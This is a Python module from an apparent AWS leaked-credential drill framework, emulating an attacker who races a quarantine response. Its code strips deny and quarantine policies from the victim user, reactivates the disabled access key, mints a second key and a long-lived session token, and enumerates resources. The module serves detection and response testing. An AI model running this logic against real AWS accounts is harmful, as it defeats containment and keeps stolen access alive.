"""The attacker sees the quarantine and the denies come, and takes them away again before they are obeyed; and switches
the leaked key on again whenever it was switched off.
"""

from contextlib import suppress
from typing import Any

from unleak.drill.documents import be_administrator
from unleak.drill.moves import call, holds
from unleak.drill.stage import VICTIM
from unleak.drill.technique import LEAVES, Loot, Technique, Traces
from unleak.model.errors import UnleakError
from unleak.model.plan import Mode

_ME: dict[str, Any] = {"UserName": VICTIM}


def _fight(loot: Loot) -> None:
    """With the newest credential first: it lives longest."""
    for holder in list(loot.held)[::-1]:
        if holder != "stranger":
            with suppress(UnleakError):
                _take_away(loot, holder)


def _take_away(loot: Loot, holder: str) -> None:
    iam = loot.client(holder, "iam")
    for name in iam.list_user_policies(**_ME)["PolicyNames"]:
        iam.delete_user_policy(**_ME, PolicyName=name)
    for policy in iam.list_attached_user_policies(**_ME)["AttachedPolicies"]:
        if "Quarantine" in policy["PolicyName"]:
            iam.detach_user_policy(**_ME, PolicyArn=policy["PolicyArn"])
    iam.update_access_key(**_ME, AccessKeyId=loot.stage.victim.key_id, Status="Active")


TECHNIQUE = Technique(
    id="denies_taken_away",
    title="The quarantine race",
    attack=("T1562.001", "T1098.001", "T1550.001"),
    prepare=be_administrator,
    moves=(
        call("s3:ListBuckets"),
        call("iam:CreateAccessKey", then=holds("second"), wanted=False, note="a user has two keys, not three", **_ME),
        call("sts:GetSessionToken", "second", then=holds("session"), DurationSeconds=129_600),
        call("iam:ListUsers", "second"),
        call("ec2:DescribeInstances", "session"),
    ),
    meanwhile=_fight,
    seen=Traces(
        rules=("iam-quarantine-removed", "iam-policy-removed", "iam-activate-access-key", "iam-create-access-key"),
        credentials=("CreateAccessKey", "GetSessionToken"),
    ),
    stopped_by=("attach_quarantine", "revoke_user_sessions", "deactivate_key", "deny_all"),
    leaves=("key ",),
    mode=Mode.LOCKDOWN,
    only_standin=LEAVES,
)
